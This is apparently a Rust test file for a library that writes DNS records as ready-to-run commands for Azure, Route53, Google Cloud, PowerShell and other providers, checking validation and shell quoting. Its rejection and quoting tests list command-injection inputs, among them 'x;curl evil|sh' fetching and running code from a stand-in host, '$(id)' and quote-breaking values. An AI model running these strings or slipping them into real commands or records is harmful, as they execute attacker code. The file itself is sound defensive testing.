//! DNS records, written for each provider in which a person creates them.

use berth_domain::dns::*;
use proptest::prelude::*;

fn record(kind: DnsKind, value: &str) -> DnsRecord {
    DnsRecord {
        name: "ML.models.contoso.com.".to_owned(),
        kind,
        value: value.to_owned(),
    }
}

fn text(record: &DnsRecord, provider: DnsProvider) -> String {
    let all = texts(record, "contoso.com").expect("a record");
    let found = all.into_iter().find(|text| text.provider == provider);
    found.map(|text| text.text).unwrap_or_default()
}

#[test]
fn an_address_record_is_written_for_each_provider() {
    let record = record(DnsKind::A, "20.1.2.3");
    for (provider, expected) in [
        (
            DnsProvider::AzureDns,
            "az network dns record-set a add-record --resource-group <group> --zone-name contoso.com --record-set-name ml.models --ipv4-address=20.1.2.3",
        ),
        (DnsProvider::ZoneFile, "ml.models.contoso.com. 300 IN A 20.1.2.3"),
        (
            DnsProvider::Cloudflare,
            "Type: A\nName: ml.models\nContent: 20.1.2.3\nTTL: 5 min\nProxy status: DNS only",
        ),
        (
            DnsProvider::WindowsServer,
            "Add-DnsServerResourceRecord -A -ZoneName contoso.com -Name ml.models -IPv4Address 20.1.2.3 -TimeToLive 00:05:00",
        ),
        (
            DnsProvider::GoogleCloudDns,
            "gcloud dns record-sets create ml.models.contoso.com. --zone=<zone> --type=A --ttl=300 --rrdatas=20.1.2.3",
        ),
    ] {
        assert_eq!(text(&record, provider), expected);
    }
    let batch = text(&record, DnsProvider::Route53);
    let (_, json) = batch.split_once("--change-batch ").expect("a batch");
    let json: serde_json::Value = serde_json::from_str(json.trim_matches('\'')).expect("JSON");
    assert_eq!(
        json["Changes"][0]["ResourceRecordSet"]["ResourceRecords"][0]["Value"],
        "20.1.2.3"
    );
}

#[test]
fn a_challenge_record_is_a_public_txt_record() {
    let record = DnsRecord {
        name: "_acme-challenge.ml.contoso.com".to_owned(),
        kind: DnsKind::Txt,
        value: "gfj9Xq-Rg85nM".to_owned(),
    };
    assert_eq!(
        text(&record, DnsProvider::ZoneFile),
        "_acme-challenge.ml.contoso.com. 300 IN TXT \"gfj9Xq-Rg85nM\""
    );
    assert!(!text(&record, DnsProvider::Cloudflare).contains("Proxy"));
    assert_eq!(text(&record, DnsProvider::AzurePrivateDns), "");
    assert!(text(&record, DnsProvider::Route53).contains(r#"\"gfj9Xq-Rg85nM\""#));
}

#[test]
fn private_zones_come_first_for_an_internal_address() {
    let first = |value: &str| texts(&record(DnsKind::A, value), "contoso.com").expect("a record")[0].provider;
    assert_eq!(first("10.1.2.3"), DnsProvider::AzurePrivateDns);
    assert_eq!(first("20.1.2.3"), DnsProvider::AzureDns);
}

#[test]
fn zones_and_host_names_are_told_apart() {
    assert_eq!(likely_zone("ml.models.contoso.com."), "contoso.com");
    assert_eq!(likely_zone("localhost"), "localhost");
    for (name, zone, host) in [
        ("ml.contoso.com", "contoso.com", "ml"),
        ("contoso.com", "Contoso.com.", "@"),
        ("ml.contoso.com", "other.com", "ml.contoso.com"),
        ("evilcontoso.com", "contoso.com", "evilcontoso.com"),
        ("ml.contoso.com", "", "ml.contoso.com"),
    ] {
        assert_eq!(host_in(name, zone), host, "{name} in {zone}");
    }
}

#[test]
fn invalid_records_give_no_command() {
    let good = record(DnsKind::A, "20.1.2.3");
    for name in [
        "",
        "x;curl evil|sh;.victim.example",
        "a b.com",
        "$(id).com",
        "`id`.com",
        "a'.com",
        "a\n.com",
        "a\u{1b}[31m.com",
        "-a.com",
        "--help",
        "a.*.com",
        "ä.com",
        "a\u{202e}.com",
        "a/b.com",
        "a%.com",
    ] {
        let bad = DnsRecord {
            name: name.to_owned(),
            ..good.clone()
        };
        assert_eq!(
            texts(&bad, "contoso.com").map_err(|bad| bad.member),
            Err("name"),
            "{name:?}"
        );
        let bad = DnsRecord {
            kind: DnsKind::Cname,
            value: name.to_owned(),
            ..good.clone()
        };
        assert_eq!(
            texts(&bad, "contoso.com").map_err(|bad| bad.member),
            Err("value"),
            "{name:?}"
        );
        if !name.is_empty() {
            assert_eq!(
                texts(&good, name).map_err(|bad| bad.member),
                Err("zone"),
                "{name:?}"
            );
        }
    }
    for (kind, value, problem) in [
        (DnsKind::A, "20.1.2", DnsProblem::Ipv4),
        (DnsKind::A, "::1", DnsProblem::Ipv4),
        (DnsKind::Aaaa, "20.1.2.3", DnsProblem::Ipv6),
        (DnsKind::A, "20.1.2.3;id", DnsProblem::Ipv4),
        (DnsKind::Cname, "a;id", DnsProblem::Name),
        (DnsKind::Cname, "300.1.2.3", DnsProblem::Ipv4),
        (DnsKind::Cname, "20.1.2.", DnsProblem::Ipv4),
        (DnsKind::Txt, "", DnsProblem::Text),
        (DnsKind::Txt, "a\nb", DnsProblem::Text),
        (DnsKind::Txt, "a\u{1b}b", DnsProblem::Text),
        (DnsKind::Txt, "å", DnsProblem::Text),
    ] {
        let bad = record(kind, value);
        assert_eq!(
            texts(&bad, "contoso.com"),
            Err(BadRecord {
                member: "value",
                problem
            }),
            "{value:?}"
        );
    }
    assert_eq!(
        texts(&good, "*.contoso.com").map_err(|bad| bad.member),
        Err("zone")
    );
}

/// The arguments of a command as a real shell parses them, without the program.
fn arguments(command: &str) -> Vec<String> {
    // The person fills in `<…>`.
    let command = command
        .replace("<group>", "G")
        .replace("<zone id>", "Z")
        .replace("<zone>", "Z");
    let (program, rest) = command.split_once(' ').expect("arguments");
    let output = std::process::Command::new("sh")
        .args([
            "-c",
            &format!("{program}() {{ printf '%s\\n' \"$@\"; }}; {program} {rest}"),
        ])
        .output()
        .expect("a shell");
    assert!(
        output.status.success() && output.stderr.is_empty(),
        "{command}: {output:?}"
    );
    String::from_utf8(output.stdout)
        .expect("text")
        .lines()
        .map(str::to_owned)
        .collect()
}

#[test]
fn values_are_one_argument_in_each_shell() {
    for value in [
        "v';id;'",
        "$(id)",
        "`id`",
        "a b",
        "-starts-with-a-dash",
        "a\"b",
        "a\\b",
        "a,b",
        "*",
        "a & b | c > d",
        "!!",
        "~",
        "#",
    ] {
        let record = record(DnsKind::Txt, value);
        let azure = arguments(&text(&record, DnsProvider::AzureDns));
        assert_eq!(
            azure.last().map(String::as_str),
            Some(format!("--value={value}").as_str())
        );
        let route = arguments(&text(&record, DnsProvider::Route53));
        let batch: serde_json::Value = serde_json::from_str(route.last().expect("a batch")).expect("JSON");
        let told = &batch["Changes"][0]["ResourceRecordSet"]["ResourceRecords"][0]["Value"];
        let escaped = value.replace('\\', "\\\\").replace('"', "\\\"");
        assert_eq!(told, &serde_json::Value::from(format!("\"{escaped}\"")));
        let google = arguments(&text(&record, DnsProvider::GoogleCloudDns));
        let last = google.last().expect("a value");
        assert!(
            last.ends_with(&format!("\"{escaped}\"")) && last.starts_with("--rrdatas="),
            "{last}"
        );
        let windows = text(&record, DnsProvider::WindowsServer);
        let quoted = berth_domain::quote::powershell(value).expect("a value");
        assert!(
            windows.contains(&format!("-DescriptiveText {quoted} -TimeToLive")),
            "{windows}"
        );
    }
}

proptest! {
    #[test]
    fn no_value_breaks_the_commands(name in ".{0,60}", zone in ".{0,30}", value in ".{0,60}") {
        for kind in [DnsKind::A, DnsKind::Aaaa, DnsKind::Cname, DnsKind::Txt] {
            let record = DnsRecord { name: name.clone(), kind, value: value.clone() };
            if let Ok(all) = texts(&record, &zone) {
                prop_assert!(all.len() >= 7);
                for text in all {
                    prop_assert!(!text.text.chars().any(|letter| letter.is_control() && letter != '\n'), "{:?}", text);
                }
            }
        }
    }
}
